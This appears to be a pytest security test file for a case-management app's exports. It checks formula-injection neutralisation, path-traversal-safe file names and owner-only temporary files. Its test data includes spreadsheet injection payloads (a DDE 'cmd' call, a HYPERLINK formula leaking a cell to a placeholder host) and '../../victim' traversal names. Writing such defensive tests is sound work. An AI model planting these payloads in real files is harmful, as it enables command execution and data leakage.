"""Files the app writes are safe whatever the data holds (issue 15, findings 5–7): text is never
a formula, file names from case numbers never leave the chosen folder, and no temporary file
with personal data is left anywhere but the private folder."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from store_helpers import case_form, project_form

from wulong_desk.services.cases import changes as cases
from wulong_desk.services.documents.exports import export_ledger
from wulong_desk.services.exchange.survey import template_bytes
from wulong_desk.services.projects import project as projects
from wulong_desk.store import open_memory

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&C5,"点这里")',
           "+1+1", "@SUM(1)"]


@pytest.fixture
def store():
    s = open_memory("制表员")
    yield s
    s.close()


def _formulas(path: Path) -> list[str]:
    """Every formula in every sheet of the workbook, from the XML itself."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >](.*?)</f>", archive.read(name).decode("utf-8"))
    return found


@pytest.mark.parametrize("public", [False, True])
def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, store, public):
    project_id = projects.create_project(store, project_form(2, name=ATTACKS[0]))
    for number, attack in enumerate(ATTACKS):
        form = case_form(2, f"A-{number}", address=attack, remarks=attack)
        form["owners"][0]["name"] = attack
        cases.save_case(store, project_id, form)
    out = tmp_path / "ledger.xlsx"
    if public:  # every household, none signed yet: the notice lists them marked 拟
        from wulong_desk.services.documents.notices import export_notice

        export_notice(store, project_id, out, include_unsigned=True)
    else:
        export_ledger(store, project_id, out, public=False, operator=ATTACKS[1])
    formulas = _formulas(out)
    assert formulas, "the totals row keeps its SUM formulas"
    assert all(f.startswith("SUM(") for f in formulas), formulas
    if not public:  # the text itself is kept, as text
        from openpyxl import load_workbook

        texts = {str(c.value).replace("\n", "") for ws in load_workbook(out).worksheets
                 for row in ws.iter_rows() for c in row}   # (long text is broken into lines)
        assert set(ATTACKS) <= texts


def test_the_survey_template_holds_no_formula(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(template_bytes())
    assert _formulas(path) == []


# ---- file names from case numbers
def _project_with(store, numbers: list[str]) -> int:
    project_id = projects.create_project(store, project_form(2))
    for index, number in enumerate(numbers):
        cases.save_case(store, project_id, case_form(2, number, title_no=f"T-{index}"))
    return project_id


def test_a_case_number_never_leaves_the_chosen_folder(tmp_path, store):
    # before: ../../victim/FR-0001 from a package wrote outside --out-dir
    from wulong_desk.services.documents.exports import export_documents

    project_id = _project_with(store, ["../../victim/FR-0001", "CON", "A:B*?"])
    out = tmp_path / "a" / "b" / "out"
    out.parent.mkdir(parents=True)
    result = export_documents(store, project_id, out)
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")
                     if p.is_file())
    assert written == sorted(f"a/b/out/{f.name}" for f in result.files)
    assert {f.name for f in result.files} == {
        "____victim_FR-0001-产权调换协议.pdf", "_CON-产权调换协议.pdf", "A_B__-产权调换协议.pdf"}
    assert not (tmp_path / "victim").exists()


def test_case_numbers_differing_only_in_letter_case_get_two_files(tmp_path, store):
    from wulong_desk.services.documents.exports import export_documents

    # two numbers (FR-0001 and fr-0001 are one household now: tests/test_case_identity.py)
    # whose file names differ only in letter case once made safe: FR_0001, fr_0001
    project_id = _project_with(store, ["FR_0001", "fr/0001"])
    result = export_documents(store, project_id, tmp_path / "out")
    names = [f.name for f in result.files]
    assert len({n.casefold() for n in names}) == 2, names
    assert len(list((tmp_path / "out").iterdir())) == 2


# ---- temporary files of a killed export
KILLED = """
import os, signal, sys
from pathlib import Path
sys.path.insert(0, sys.argv[3])
from store_helpers import case_form, project_form
from wulong_desk.exports import ledger
from wulong_desk.services.cases import changes as cases
from wulong_desk.services.projects import project as projects
from wulong_desk.services.documents.exports import export_documents, export_ledger
from wulong_desk.store import open_memory

store = open_memory("制表员")
project_id = projects.create_project(store, project_form(2))
for n in range(6):
    form = case_form(2, f"K-{n}", title_no=f"T{n}")
    form["owners"][0]["id_number"] = "11010519491231002X"
    cases.save_case(store, project_id, form)
ledger.PROGRESS_EVERY = 1
out = Path(sys.argv[2])

def die(done, total):
    if done == 3:
        os.kill(os.getpid(), signal.SIGKILL)

if sys.argv[1] == "ledger":
    export_ledger(store, project_id, out / "l.xlsx", public=False, operator="x", progress=die)
else:
    export_documents(store, project_id, out / "docs", progress=die)
"""


def _killed(kind: str, tmp_path: Path, monkeypatch) -> tuple[Path, Path]:
    import os
    import signal
    import subprocess
    import sys

    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, "TMPDIR": str(system_temp), "TEMP": str(system_temp),
           "TMP": str(system_temp)}
    proc = subprocess.run([sys.executable, "-c", KILLED, kind, str(out),
                           str(Path(__file__).parent)],
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    return system_temp, out


def test_a_killed_ledger_export_leaves_nothing_in_the_system_temp_folder(tmp_path, monkeypatch):
    # before: openpyxl's temp files with names and full ID numbers stayed in /tmp (14 of 21)
    import os

    from wulong_desk.tempfiles import clean_at_start, temp_root

    system_temp, _ = _killed("ledger", tmp_path, monkeypatch)
    assert list(system_temp.iterdir()) == []
    left = [p for p in temp_root().rglob("*") if p.is_file()]
    assert left, "the killed export's files are in the private folder"
    assert os.stat(temp_root()).st_mode & 0o077 == 0
    for folder in temp_root().iterdir():
        assert os.stat(folder).st_mode & 0o077 == 0
    assert clean_at_start() >= 1  # the next start empties it
    assert list(temp_root().iterdir()) == []


def test_a_killed_agreement_batch_leaves_an_owner_only_folder_removed_at_next_start(
        tmp_path, monkeypatch):
    import os

    from wulong_desk.tempfiles import clean_at_start, temp_root

    _, out = _killed("documents", tmp_path, monkeypatch)
    [staging] = [p for p in out.iterdir() if p.name.startswith(".")]
    assert os.stat(staging).st_mode & 0o777 == 0o700
    pdfs = list(staging.iterdir())
    assert pdfs and all(os.stat(p).st_mode & 0o777 == 0o600 for p in pdfs)  # before: 0644
    clean_at_start()
    assert not staging.exists()
    assert list(temp_root().iterdir()) == []
    assert list(out.iterdir()) == []


def test_copies_holding_personal_data_are_owner_only(tmp_path, store):
    import os
    import stat

    from wulong_desk.services.documents.exports import export_documents
    from wulong_desk.services.exchange.packages import export_cases
    from wulong_desk.store import backups, open_store

    project_id = _project_with(store, ["M-1"])
    export_ledger(store, project_id, tmp_path / "ledger.xlsx", public=False, operator="x")
    export_cases(store, project_id, tmp_path / "cases.json")
    result = export_documents(store, project_id, tmp_path / "docs")
    db = tmp_path / "w.sqlite"
    open_store(db, "x").close()
    made = [tmp_path / "ledger.xlsx", tmp_path / "cases.json", *result.files,
            backups.backup(db), db]
    for path in made:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def test_a_ledger_row_keeps_error_names_and_formulas_as_text_and_figures_as_figures(tmp_path):
    from decimal import Decimal

    from openpyxl import Workbook, load_workbook

    from wulong_desk.exports.sheet_style import literal

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("行")
    row = ["#N/A", "#DIV/0!", "=1+1", "=", "+1+1", "张三", Decimal("12.50"), 3]
    ws.append([literal(ws, value) for value in row])   # every cell as the ledger writes it
    wb.save(tmp_path / "row.xlsx")
    cells = next(load_workbook(tmp_path / "row.xlsx").worksheets[0].iter_rows())
    assert [c.value for c in cells] == ["#N/A", "#DIV/0!", "=1+1", "=", "+1+1", "张三", 12.5, 3]
    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "n"]


def test_temporary_files_go_to_an_owner_only_folder_of_this_process(tmp_path):
    """The command line (and the app) point the standard library's temporary files at the
    private folder before any work: openpyxl takes its sheet files from there."""
    import os
    import tempfile

    from wulong_desk.cli import main
    from wulong_desk.tempfiles import temp_root

    assert main(["--db", str(tmp_path / "t.sqlite"), "--operator", "甲", "projects"]) == 0
    folder = Path(tempfile.gettempdir())
    assert folder.parent == temp_root() and folder.name == f"{os.getpid()}.process"
    assert os.stat(folder).st_mode & 0o077 == 0
    with tempfile.NamedTemporaryFile() as made:   # (how openpyxl makes its sheet files)
        assert Path(made.name).parent == folder


def test_a_cancelled_ledger_export_leaves_no_temporary_file(store, tmp_path, monkeypatch):
    import os
    import tempfile

    from wulong_desk.errors import Cancelled
    from wulong_desk.exports import ledger
    from wulong_desk.tempfiles import temp_root

    project_id = _project_with(store, [f"M-{n}" for n in range(6)])
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))  # as the system's, at first
    monkeypatch.setattr(ledger, "PROGRESS_EVERY", 1)
    seen: list[Path] = []

    def cancel_midway(done: int, total: int) -> bool:
        if done == 3:
            seen.extend(temp_root().rglob("openpyxl.*"))
            return False
        return True

    with pytest.raises(Cancelled):
        export_ledger(store, project_id, tmp_path / "l.xlsx", public=False, operator="x",
                      progress=cancel_midway)
    assert seen, "the sheet's rows were streamed through a file in the private folder"
    assert all(os.stat(path.parent).st_mode & 0o077 == 0 for path in seen)
    assert list(system_temp.iterdir()) == []
    assert list(temp_root().rglob("openpyxl.*")) == []  # gone with the cancelled export
    assert not (tmp_path / "l.xlsx").exists()
